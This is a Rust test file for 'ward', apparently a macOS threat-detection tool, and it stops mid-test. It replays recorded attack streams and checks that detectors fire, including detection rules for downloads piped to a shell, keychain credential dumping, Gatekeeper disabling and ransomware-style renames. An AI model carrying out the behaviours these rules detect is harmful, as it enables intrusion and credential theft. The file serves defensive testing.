//! The CLI contract (DESIGN.md), exercised through the real `ward` binary.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;

use std::io::{Read, Write};
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{root, wasm};
use serde_json::Value;

fn ward(args: &[&str]) -> Output {
    ward_with_stdin(args, None)
}

fn ward_with_stdin(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let cache = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("ward-cli-cache");
    // Each run its own state directory (and so control socket): tests run side by side.
    let state = tempfile::tempdir().unwrap();
    run_limited(
        Command::new(env!("CARGO_BIN_EXE_ward"))
            .args(args)
            .current_dir(root())
            .env("WARD_CACHE_DIR", cache)
            .env("WARD_STATE_DIR", state.path())
            .env_remove("RUST_LOG"),
        stdin,
    )
}

/// How long a command the tests start may run: a `ward` held by a guest that nothing
/// stopped fails its test instead of hanging the whole run.
const LIMIT: Duration = Duration::from_secs(300);

/// Runs `command` to its end in a process group of its own, fed `stdin`, and returns what
/// it printed. Past [`LIMIT`] the group (the command and whatever it started) is killed
/// and the test fails. The kill comes before the command is reaped, so it can never
/// reach a process that reused its id.
fn run_limited(command: &mut Command, stdin: Option<&[u8]>) -> Output {
    let mut child = command
        .process_group(0)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Fed and read on threads of their own: a command that stops reading or fills a pipe
    // must not stall the clock.
    let feeder = child
        .stdin
        .take()
        .zip(stdin.map(<[u8]>::to_vec))
        .map(|(mut pipe, input)| {
            std::thread::spawn(move || {
                let _ = pipe.write_all(&input);
            })
        });
    let drain = |pipe: Option<Box<dyn Read + Send>>| {
        std::thread::spawn(move || {
            let mut bytes = Vec::new();
            if let Some(mut pipe) = pipe {
                let _ = pipe.read_to_end(&mut bytes);
            }
            bytes
        })
    };
    let stdout = drain(
        child
            .stdout
            .take()
            .map(|p| Box::new(p) as Box<dyn Read + Send>),
    );
    let stderr = drain(
        child
            .stderr
            .take()
            .map(|p| Box::new(p) as Box<dyn Read + Send>),
    );
    let deadline = Instant::now() + LIMIT;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() >= deadline {
            kill_group(&child);
            let _ = child.wait();
            panic!("{command:?} ran for {LIMIT:?} and was killed");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    if let Some(feeder) = feeder {
        let _ = feeder.join();
    }
    Output {
        status,
        stdout: stdout.join().unwrap(),
        stderr: stderr.join().unwrap(),
    }
}

/// SIGKILL to `child`'s process group ([`run_limited`] makes it a leader); call it only
/// while `child` is not yet reaped.
fn kill_group(child: &std::process::Child) {
    let _ = Command::new("kill")
        .args(["-KILL", "--", &format!("-{}", child.id())])
        .status();
}

/// `ward plugin test <component> --events <events> --expect <expect>`.
fn plugin_test(component: &std::path::Path, events: &str, expect: &std::path::Path) -> Output {
    ward(&[
        "plugin",
        "test",
        component.to_str().unwrap(),
        "--events",
        events,
        "--expect",
        expect.to_str().unwrap(),
    ])
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// The findings of the ATT&CK detectors (everything but the bundled Jamf analytics).
fn first_party(findings: &[Value]) -> Vec<Value> {
    findings
        .iter()
        .filter(|f| f["plugin"] != "jamf-analytics")
        .cloned()
        .collect()
}

/// The first record of the attack-chain example that `pick` accepts, as JSON to edit.
fn attack_chain_event(pick: impl Fn(&Value) -> bool) -> Value {
    std::fs::read_to_string(root().join("examples/streams/attack-chain.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|v| pick(v))
        .unwrap()
}

fn ndjson(o: &Output) -> Vec<Value> {
    String::from_utf8(o.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {l}: {e}")))
        .collect()
}

#[test]
fn replay_prints_one_finding_per_line_with_the_contract_fields() {
    let out = ward(&["replay", "examples/streams/attack-chain.jsonl"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let all = ndjson(&out);
    // The bundled Jamf analytics fire too, named by the analytic.
    let jamf: Vec<(u64, &str)> = all
        .iter()
        .filter(|f| f["plugin"] == "jamf-analytics")
        .map(|f| {
            (
                f["global_seq_num"].as_u64().unwrap(),
                f["rule"].as_str().unwrap(),
            )
        })
        .collect();
    assert!(jamf.contains(&(1010, "AllCurlActivity")), "{jamf:?}");
    assert!(
        jamf.contains(&(1021, "XattrExtendedAttributesActivity")),
        "{jamf:?}"
    );
    assert_eq!(jamf.len(), 8, "{jamf:?}");
    let findings = first_party(&all);
    // Each act once: the plist's create and its close are one, the xattr exec and its
    // deleteextattr are one.
    assert_eq!(all.len(), 13);
    let rules: Vec<&str> = findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        rules,
        [
            "downloaded-file-executed",
            "untrusted-exec-from-staging-path",
            "quarantine-attribute-removed-by-xattr",
            "launch-item-plist-written",
            "launch-item-registered",
        ]
    );
    for f in &findings {
        for key in [
            "rule",
            "plugin",
            "severity",
            "attack",
            "global_seq_num",
            "event_type",
            "time",
            "process",
            "message",
            "evidence",
        ] {
            assert!(f.get(key).is_some(), "finding lacks `{key}`: {f}");
        }
        for key in [
            "pid",
            "pidversion",
            "path",
            "signing_id",
            "team_id",
            "args",
            "parent",
            "responsible",
        ] {
            assert!(
                f["process"].get(key).is_some(),
                "process lacks `{key}`: {f}"
            );
        }
        assert!(
            ["informational", "low", "medium", "high", "critical"]
                .contains(&f["severity"].as_str().unwrap())
        );
        assert!(
            f["attack"]
                .as_array()
                .unwrap()
                .iter()
                .all(|t| t.as_str().unwrap().starts_with('T'))
        );
    }
    let first = &findings[1];
    assert_eq!(first["plugin"], "untrusted-exec");
    assert_eq!(first["global_seq_num"], 1019);
    assert_eq!(first["event_type"], "exec");
    assert_eq!(first["process"]["path"], "/private/tmp/update");
    assert_eq!(first["process"]["team_id"], Value::Null);
    assert_eq!(first["process"]["parent"]["path"], "/bin/zsh");
    let summary = stderr(&out);
    assert!(summary.contains("31 lines read"), "{summary}");
    assert!(summary.contains("0 malformed lines skipped"), "{summary}");
}

/// The ATT&CK pack on the intrusion example, with no config: every rule fires on its
/// step, none on the look-alike steps between them, and the pack covers at least 15
/// techniques.
#[test]
fn replay_runs_the_attack_pack_on_the_intrusion_example() {
    let out = ward(&["replay", "examples/streams/intrusion.jsonl"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let all = ndjson(&out);
    let got: Vec<(u64, String, Vec<String>)> = first_party(&all)
        .iter()
        .map(|f| {
            (
                f["global_seq_num"].as_u64().unwrap(),
                f["rule"].as_str().unwrap().to_owned(),
                f["attack"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|t| t.as_str().unwrap().to_owned())
                    .collect(),
            )
        })
        .collect();
    let expected: &[(u64, &str, &[&str])] = &[
        (3004, "download-piped-to-shell", &["T1105", "T1059.004"]),
        (3012, "downloaded-file-executed", &["T1105"]),
        (3012, "untrusted-exec-from-staging-path", &["T1204.002"]),
        (
            3016,
            "osascript-shell-or-prompt",
            &["T1059.002", "T1056.002"],
        ),
        (3020, "keychain-credential-access", &["T1555.001"]),
        (3024, "gatekeeper-disabled", &["T1562.001"]),
        (3028, "security-tool-tampering", &["T1562.001"]),
        (3030, "shell-profile-modified", &["T1546.004"]),
        (3032, "ssh-authorized-keys-modified", &["T1098.004"]),
        (3034, "sudoers-modified", &["T1548.003"]),
        (3038, "tcc-database-modified", &["T1548.006"]),
        (3039, "login-item-registered", &["T1547.015"]),
        (3040, "xprotect-malware-detected", &[]),
        (3120, "mass-file-renames", &["T1486"]),
        // Then it persists as a LaunchAgent.
        (3131, "launch-item-plist-written", &["T1543.001"]),
        (3132, "launch-item-registered", &["T1543.001"]),
    ];
    let expected: Vec<(u64, String, Vec<String>)> = expected
        .iter()
        .map(|(s, r, a)| {
            (
                *s,
                (*r).to_owned(),
                a.iter().map(|t| (*t).to_owned()).collect(),
            )
        })
        .collect();
    assert_eq!(got, expected);
    // Jamf analytics run beside the pack and name the same steps.
    let jamf: Vec<&str> = all
        .iter()
        .filter(|f| f["plugin"] == "jamf-analytics")
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    for rule in [
        "KeychainDumped",
        "GatekeeperConfigChanges",
        "LaunchctlUnloadAndBootout",
    ] {
        assert!(jamf.contains(&rule), "{jamf:?}");
    }
}

/// Every ATT&CK technique the first-party pack maps to, across its tests and streams,
/// read from the plugins' own expectation files: the pack must cover at least 15.
#[test]
fn the_first_party_pack_covers_at_least_fifteen_techniques() {
    let mut techniques = std::collections::BTreeSet::new();
    for stream in [
        "examples/streams/attack-chain.jsonl",
        "examples/streams/account-takeover.jsonl",
        "examples/streams/intrusion.jsonl",
    ] {
        let out = ward(&["replay", stream]);
        assert!(out.status.success(), "{}", stderr(&out));
        for f in first_party(&ndjson(&out)) {
            for t in f["attack"].as_array().unwrap() {
                techniques.insert(t.as_str().unwrap().to_owned());
            }
        }
    }
    assert!(
        techniques.len() >= 15,
        "{} techniques: {techniques:?}",
        techniques.len()
    );
}

#[test]
fn replay_reads_stdin_and_the_shared_fixtures() {
    let dir = root().join("tests/data/macmonitor");
    let mut input = Vec::new();
    for name in [
        "eslogger-exit.jsonl",
        "eslogger-open.jsonl",
        "eslogger-remote-thread-create.jsonl",
        "eslogger-lineage.jsonl",
        "eslogger-od.jsonl",
    ] {
        input.extend(std::fs::read(dir.join(name)).unwrap());
        if input.last() != Some(&b'\n') {
            input.push(b'\n');
        }
    }
    let out = ward_with_stdin(&["replay", "-"], Some(&input));
    assert!(out.status.success(), "{}", stderr(&out));
    let summary = stderr(&out);
    assert!(
        summary.contains("25 lines read, 25 events, 0 malformed lines skipped"),
        "{summary}"
    );
    // The real records hold an injected thread, a local account created and a password
    // reset with dscl: the first-party detectors name each.
    let rules: Vec<_> = ndjson(&out)
        .iter()
        .map(|f| {
            format!(
                "{}/{}@{}",
                f["plugin"].as_str().unwrap(),
                f["rule"].as_str().unwrap(),
                f["event_type"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        rules,
        [
            "process-injection/remote-thread-created@remote_thread_create",
            "process-injection/remote-thread-created@remote_thread_create",
            "account-manipulation/local-account-created@od_create_user",
            "account-manipulation/account-password-reset-from-cli@od_modify_password",
        ],
        "{summary}"
    );
}

#[test]
fn replay_counts_bad_lines_by_reason_and_exits_zero() {
    let out = ward(&["replay", "examples/streams/bad-input.jsonl"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let summary = stderr(&out);
    assert!(
        summary.contains("14 lines read, 7 events, 7 malformed lines skipped"),
        "{summary}"
    );
    for reason in [
        "truncated: 1",
        "not-an-object: 2",
        "invalid-json: 1",
        "invalid-utf8: 1",
        "bad-shape: 2",
    ] {
        assert!(
            summary.contains(reason),
            "summary lacks {reason}: {summary}"
        );
    }
    // The good lines still went through the detectors.
    let untrusted = ndjson(&out)
        .into_iter()
        .filter(|f| f["plugin"] == "untrusted-exec")
        .count();
    assert_eq!(
        untrusted, 1,
        "the untrusted payload exec survives between bad lines"
    );
}

#[test]
fn fatal_errors_exit_nonzero_with_one_line() {
    let out = ward(&["replay", "no/such/file.jsonl"]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(err.contains("no/such/file.jsonl"), "{err}");

    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("ward.toml");
    std::fs::write(&bad, "[agent]\nbatch_sise = 3\n").unwrap();
    let out = ward(&[
        "replay",
        "examples/streams/attack-chain.jsonl",
        "--config",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(
        err.contains("batch_sise") && err.contains("ward.toml:2:1: unknown field"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

/// An agent whose every detector was refused is a fatal error, not an exit 0 with no
/// findings; a key a plugin does not read is refused naming the key and what it reads,
/// and the rest still run.
#[test]
fn refusals_are_named_and_an_agent_with_no_detector_is_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let junk = dir.path().join("junk.wasm");
    std::fs::write(&junk, b"not wasm").unwrap();
    let none_left = dir.path().join("none.toml");
    std::fs::write(
        &none_left,
        format!(
            "[agent]\ndefault_content = false\n\n[[plugins]]\npath = {:?}\n",
            junk.display().to_string()
        ),
    )
    .unwrap();
    let out = ward(&[
        "replay",
        "examples/streams/attack-chain.jsonl",
        "--config",
        none_left.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("no detector to run: every one was refused"),
        "{}",
        stderr(&out)
    );
    assert!(out.stdout.is_empty());

    let typo = dir.path().join("typo.toml");
    std::fs::write(
        &typo,
        "[builtin.command-abuse]\nconfig = { protected_label = \"com.example.agent\" }\n",
    )
    .unwrap();
    let out = ward(&[
        "replay",
        "examples/streams/attack-chain.jsonl",
        "--config",
        typo.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("`protected_label` is not a config key command-abuse reads")
            && err.contains("protected_labels"),
        "{err}"
    );
    assert!(err.contains("1 plugin(s) refused"), "{err}");
    assert!(!ndjson(&out).is_empty(), "the other plugins ran");
}

/// 5,000 nested parentheses in an admin analytic once overflowed the stack and aborted
/// `ward analytics check`: now the one analytic is reported, the others load.
#[test]
fn analytics_check_reports_a_deeply_nested_analytic_without_crashing() {
    let dir = tempfile::tempdir().unwrap();
    let deep = format!(
        "name: Deep\ninputType: GPProcessEvent\nfilter: {}$event.type == 1{}\n",
        "(".repeat(5_000),
        ")".repeat(5_000)
    );
    std::fs::write(dir.path().join("deep.yaml"), deep).unwrap();
    std::fs::write(
        dir.path().join("fine.yaml"),
        "name: Fine\ninputType: GPProcessEvent\nfilter: $event.type == 1\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(dir.path(), dir.path().join("loop")).unwrap();
    let out = ward(&["analytics", "check", dir.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("deep.yaml:3:") && text.contains("nested deeper than"),
        "{text}"
    );
    assert!(text.contains("fine.yaml: ok: Fine"), "{text}");
    assert!(
        stderr(&out).contains("2 analytics, 1 loaded, 1 failed"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn replay_with_a_config_loads_pinned_plugins_and_honours_modes() {
    let dir = tempfile::tempdir().unwrap();
    let example = wasm("osascript-prompt");
    let sha = ward::registry::load::sha256_hex(&std::fs::read(&example).unwrap());
    let config = dir.path().join("ward.toml");
    std::fs::write(
        &config,
        format!(
            "[agent]\ncache_dir = \"\"\n\n[builtin.launch-persistence]\nmode = \"disabled\"\n\n[builtin.untrusted-exec]\nmode = \"shadow\"\n\n[[plugins]]\npath = {:?}\nsha256 = \"{sha}\"\nkind = \"detector\"\n",
            example.display().to_string()
        ),
    )
    .unwrap();
    let mut input = std::fs::read(root().join("examples/streams/attack-chain.jsonl")).unwrap();
    input.extend(
        std::fs::read(root().join("examples/plugins/osascript-prompt/events.jsonl")).unwrap(),
    );
    let out = ward_with_stdin(
        &["replay", "-", "--config", config.to_str().unwrap()],
        Some(&input),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let findings = first_party(&ndjson(&out));
    let plugins: Vec<&str> = findings
        .iter()
        .map(|f| f["plugin"].as_str().unwrap())
        .collect();
    assert_eq!(
        plugins,
        [
            // curl's download run from /tmp, then the example's password prompt.
            "command-abuse",
            "untrusted-exec",
            "quarantine-removal",
            "command-abuse",
            "osascript-prompt",
            "osascript-prompt"
        ]
    );
    assert_eq!(findings[1]["shadow"], true);
    assert!(findings[0].get("shadow").is_none());
    assert!(findings[2].get("shadow").is_none());
}

#[test]
fn plugin_test_passes_on_every_plugin_with_its_expectation_file() {
    let cases = [
        (
            "untrusted-exec",
            "examples/streams/attack-chain.jsonl",
            "plugins/untrusted-exec/expect/attack-chain.jsonl",
        ),
        (
            "quarantine-removal",
            "examples/streams/attack-chain.jsonl",
            "plugins/quarantine-removal/expect/attack-chain.jsonl",
        ),
        (
            "launch-persistence",
            "examples/streams/attack-chain.jsonl",
            "plugins/launch-persistence/expect/attack-chain.jsonl",
        ),
        (
            "jamf-analytics",
            "examples/streams/attack-chain.jsonl",
            "plugins/jamf-analytics/expect/attack-chain.jsonl",
        ),
        (
            "account-manipulation",
            "examples/streams/account-takeover.jsonl",
            "plugins/account-manipulation/expect/account-takeover.jsonl",
        ),
        (
            "process-injection",
            "examples/streams/account-takeover.jsonl",
            "plugins/process-injection/expect/account-takeover.jsonl",
        ),
        (
            "command-abuse",
            "examples/streams/intrusion.jsonl",
            "plugins/command-abuse/expect/intrusion.jsonl",
        ),
        (
            "sensitive-files",
            "examples/streams/intrusion.jsonl",
            "plugins/sensitive-files/expect/intrusion.jsonl",
        ),
        (
            "malware-activity",
            "examples/streams/intrusion.jsonl",
            "plugins/malware-activity/expect/intrusion.jsonl",
        ),
        (
            "launch-persistence",
            "examples/streams/intrusion.jsonl",
            "plugins/launch-persistence/expect/intrusion.jsonl",
        ),
        (
            "osascript-prompt",
            "examples/plugins/osascript-prompt/events.jsonl",
            "examples/plugins/osascript-prompt/expected.jsonl",
        ),
    ];
    for (plugin, events, expect) in cases {
        let path = wasm(plugin);
        let out = ward(&[
            "plugin",
            "test",
            path.to_str().unwrap(),
            "--events",
            events,
            "--expect",
            expect,
        ]);
        assert!(out.status.success(), "{plugin}: {}", stderr(&out));
        assert!(stderr(&out).contains("ok:"), "{plugin}: {}", stderr(&out));
        assert!(!ndjson(&out).is_empty());
    }
}

#[test]
fn plugin_test_fails_on_a_wrong_expectation() {
    let dir = tempfile::tempdir().unwrap();
    let path = wasm("untrusted-exec");
    let events = "examples/streams/attack-chain.jsonl";

    let wrong_field = dir.path().join("wrong-field.jsonl");
    std::fs::write(
        &wrong_field,
        "{\"rule\":\"untrusted-exec-from-staging-path\",\"severity\":\"low\"}\n",
    )
    .unwrap();
    let out = plugin_test(&path, events, &wrong_field);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(".severity: expected \"low\", got \"high\""),
        "{}",
        stderr(&out)
    );

    let too_many = dir.path().join("too-many.jsonl");
    std::fs::write(
        &too_many,
        "{\"rule\":\"untrusted-exec-from-staging-path\"}\n{\"rule\":\"another\"}\n",
    )
    .unwrap();
    let out = plugin_test(&path, events, &too_many);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("expected 2 line(s), got 1"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn plugin_test_fails_when_the_plugin_faults_or_is_refused() {
    let trap = wasm("fixture-trap");
    let out = ward(&[
        "plugin",
        "test",
        trap.to_str().unwrap(),
        "--events",
        "examples/streams/attack-chain.jsonl",
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("faulted"), "{}", stderr(&out));

    let command = wasm("fixture-command");
    let out = ward(&[
        "plugin",
        "test",
        command.to_str().unwrap(),
        "--events",
        "examples/streams/attack-chain.jsonl",
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).contains("wrong world"), "{}", stderr(&out));
}

#[test]
fn replay_survives_hostile_plugins_given_on_the_command_line() {
    let mut args = vec![
        "replay".to_owned(),
        "examples/streams/attack-chain.jsonl".to_owned(),
    ];
    for f in ["fixture-loop", "fixture-trap", "fixture-command"] {
        args.push("--plugin".into());
        args.push(wasm(f).display().to_string());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = ward(&args);
    // The rest ran, and the exit status says a plugin named on the command line did not.
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let all = ndjson(&out);
    let findings = first_party(&all);
    let detectors = findings.iter().filter(|f| f["plugin"] != "ward").count();
    assert_eq!(detectors, 5, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("1 plugin(s) refused"), "{err}");
    // The refusal is on the findings stream too, for a SIEM.
    let refused: Vec<&Value> = all
        .iter()
        .filter(|f| f["rule"] == "plugin-refused")
        .collect();
    assert_eq!(refused.len(), 1, "{all:?}");
    assert!(
        refused[0]["evidence"]["origin"]
            .as_str()
            .unwrap()
            .ends_with("fixture-command.wasm"),
        "{}",
        refused[0]
    );
    // The loop's batch timed out, was split and retried on fresh instances down to
    // single events (the input is not blamed for time it might not have cost), and three
    // single-event timeouts quarantined it.
    let line = err
        .lines()
        .find(|l| l.trim_start().starts_with("fixture-loop "))
        .unwrap_or_else(|| panic!("{err}"));
    // plugin, events, calls, findings, µs/event p50 and p99, errors, faults.
    let cols: Vec<&str> = line.split_whitespace().collect();
    assert_eq!(cols[1], "31", "{line}");
    assert_eq!((cols[3], cols[6], cols[7]), ("0", "0", "3"), "{line}");
    assert!(
        line.contains("split and retried") && line.contains("QUARANTINED"),
        "{line}"
    );
}

#[test]
fn run_processes_the_configured_source_and_exits_at_its_end() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("ward.toml");
    let stream = root().join("examples/streams/attack-chain.jsonl");
    std::fs::write(
        &config,
        format!(
            "[source]\nkind = \"file\"\npath = {:?}\n",
            stream.display().to_string()
        ),
    )
    .unwrap();
    let out = ward(&["run", "--config", config.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(first_party(&ndjson(&out)).len(), 5);
    assert!(
        stderr(&out).contains("ward run: 31 lines read"),
        "{}",
        stderr(&out)
    );
}

/// The SDK quick start end to end: scaffold, build for wasm32-wasip2, test in the sandbox.
#[test]
fn plugin_new_scaffolds_a_crate_that_builds_and_passes_plugin_test() {
    let dir = tempfile::tempdir().unwrap();
    let sdk = root().join("sdk");
    let out = ward(&[
        "plugin",
        "new",
        "curl-watch",
        "--kind",
        "detector",
        "--dir",
        dir.path().to_str().unwrap(),
        "--sdk-path",
        sdk.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let crate_dir = dir.path().join("curl-watch");
    assert!(crate_dir.join("src/lib.rs").exists());

    let target = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("scaffold-target");
    let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
    let mut build = Command::new(cargo);
    build
        .current_dir(&crate_dir)
        .args(["build", "--release", "--target", "wasm32-wasip2", "--quiet"])
        .env("CARGO_TARGET_DIR", &target);
    for var in [
        "RUSTFLAGS",
        "CARGO_ENCODED_RUSTFLAGS",
        "RUSTC_WRAPPER",
        "RUSTC_WORKSPACE_WRAPPER",
    ] {
        build.env_remove(var);
    }
    let status = build.status().unwrap();
    assert!(status.success(), "the scaffolded plugin does not build");
    let component = target.join("wasm32-wasip2/release/curl_watch.wasm");

    let expect = dir.path().join("expected.jsonl");
    std::fs::write(&expect, "{\"rule\":\"curl-watch\",\"plugin\":\"curl-watch\",\"attack\":[\"T1105\"],\"process\":{\"path\":\"/usr/bin/curl\"}}\n").unwrap();
    let out = ward(&[
        "plugin",
        "test",
        component.to_str().unwrap(),
        "--events",
        "examples/streams/attack-chain.jsonl",
        "--expect",
        expect.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
}

/// `ward run` with the eslogger source: a stand-in eslogger (a real process) streams the
/// attack chain and stays alive; SIGTERM makes ward stop it, drain and report.
#[test]
fn run_with_the_eslogger_source_drains_on_sigterm() {
    use std::io::{BufRead, BufReader};
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let fake = dir.path().join("eslogger");
    let args = dir.path().join("args");
    let stream = root().join("examples/streams/attack-chain.jsonl");
    std::fs::write(
        &fake,
        format!(
            "#!/bin/sh\necho \"$@\" > {}\ncat {}\nexec sleep 60\n",
            args.display(),
            stream.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::fs::Permissions::from_mode(0o755)).unwrap();
    let config = dir.path().join("ward.toml");
    std::fs::write(
        &config,
        format!(
            "[agent]\ncache_dir = \"\"\n\n[source]\nkind = \"eslogger\"\nprogram = {:?}\n",
            fake.display().to_string()
        ),
    )
    .unwrap();

    let mut child = Command::new(env!("CARGO_BIN_EXE_ward"))
        .args(["run", "--config", config.to_str().unwrap()])
        .env("WARD_STATE_DIR", dir.path().join("state"))
        .process_group(0)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Lines come through a thread, so that a ward that hangs fails the test at LIMIT.
    let (lines, printed) = std::sync::mpsc::channel();
    let stdout = BufReader::new(child.stdout.take().unwrap());
    std::thread::spawn(move || {
        for line in stdout.lines().map_while(Result::ok) {
            if lines.send(line).is_err() {
                break;
            }
        }
    });
    let mut log = child.stderr.take().unwrap();
    let log = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = log.read_to_string(&mut text);
        text
    });
    let deadline = Instant::now() + LIMIT;
    let mut findings = Vec::new();
    while findings.len() < 6 {
        match printed.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
            Ok(line) => findings.push(serde_json::from_str::<Value>(&line).unwrap()),
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => {
                panic!("ward stopped before printing six findings")
            }
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {
                kill_group(&child);
                panic!("ward printed {} finding(s) in {LIMIT:?}", findings.len())
            }
        }
    }
    let status = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(status.success());
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() >= deadline {
            kill_group(&child);
            panic!("ward did not stop on SIGTERM within {LIMIT:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let err = log.join().unwrap();
    assert!(status.success(), "{err}");
    assert!(
        err.contains("signal received, draining") && err.contains("31 lines read"),
        "{err}"
    );
    // The detectors' subscriptions, plus what the process table needs, were asked for.
    let asked = std::fs::read_to_string(&args).unwrap();
    for kind in [
        "exec",
        "fork",
        "exit",
        "create",
        "deleteextattr",
        "btm_launch_item_add",
    ] {
        assert!(
            asked.split_whitespace().any(|k| k == kind),
            "eslogger not asked for {kind}: {asked}"
        );
    }
}

#[test]
fn absurd_lines_are_skipped_and_counted_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("absurd.jsonl");
    let chain =
        std::fs::read_to_string(root().join("examples/streams/attack-chain.jsonl")).unwrap();
    let exec = chain
        .lines()
        .find(|l| l.contains("\"args\":[\"\\/tmp\\/update\""))
        .unwrap();
    // 100,000 arguments (~0.5 MB): under the 1 MiB cap, parsed, argv kept bounded.
    let many: Vec<String> = (0..100_000).map(|i| format!("\"a{i}\"")).collect();
    let many_args = exec.replace(
        "\"args\":[\"\\/tmp\\/update\",\"--install\"]",
        &format!("\"args\":[\"\\/tmp\\/update\",{}]", many.join(",")),
    );
    assert!(many_args.len() > 500_000);
    let mut text = String::new();
    text.push_str(&"x".repeat(10 << 20)); // a 10 MB line of garbage
    text.push('\n');
    text.push_str(&many_args);
    text.push('\n');
    text.push_str(&format!(
        "{{\"version\":10,\"time\":\"{}\"}}\n",
        "t".repeat(2 << 20)
    )); // 2 MB JSON
    text.push_str(exec);
    text.push('\n');
    std::fs::write(&input, text).unwrap();

    // The point here is parsing and bounds, not the per-call time cap: give the detectors
    // room for a 100,000-argument event on a slow, shared debug build.
    let config = dir.path().join("ward.toml");
    std::fs::write(&config, "[limits]\ncall_timeout_ms = 30000\n").unwrap();
    let out = ward(&[
        "replay",
        input.to_str().unwrap(),
        "--config",
        config.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    let summary = stderr(&out);
    assert!(
        summary.contains("4 lines read, 2 events, 2 malformed lines skipped (too-long: 2)"),
        "{summary}"
    );
    let findings = ndjson(&out);
    let findings: Vec<Value> = findings
        .into_iter()
        .filter(|f| f["plugin"] == "untrusted-exec")
        .collect();
    assert_eq!(findings.len(), 2, "both payload execs fire");
    assert_eq!(
        findings[0]["process"]["args"].as_array().unwrap().len(),
        256,
        "argv in findings is bounded"
    );
    assert_eq!(findings[0]["process"]["args_total"], 100_001);
    let command_line = findings[0]["evidence"]["command_line"].as_str().unwrap();
    assert!(
        command_line.len() < 9000 && command_line.ends_with("bytes cut]"),
        "evidence is trimmed, not faulted"
    );
    assert!(findings[1]["process"].get("args_total").is_none());
}

#[test]
fn analytics_check_reports_broken_analytics_precisely() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("good.yaml"), "name: Good\ninputType: GPProcessEvent\nseverity: Low\nfilter: $event.type == 1 AND\n  $event.process.path.lastPathComponent IN {\"curl\", \"nscurl\"}\n").unwrap();
    std::fs::create_dir(dir.path().join("sub")).unwrap();
    std::fs::write(dir.path().join("sub/bad.yml"), "name: Bad\ninputType: GPProcessEvent\nseverity: Low\nfilter: $event.type == 1 AND\n  $event.process.path BEGINSWITH\n").unwrap();
    let out = ward(&["analytics", "check", dir.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let report = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        report.contains("good.yaml: ok: Good (GPProcessEvent, Low)"),
        "{report}"
    );
    assert!(
        report.contains("sub/bad.yml:5:33: error: filter: expected an operand"),
        "{report}"
    );
    assert!(
        stderr(&out).contains("2 analytics, 1 loaded, 1 failed"),
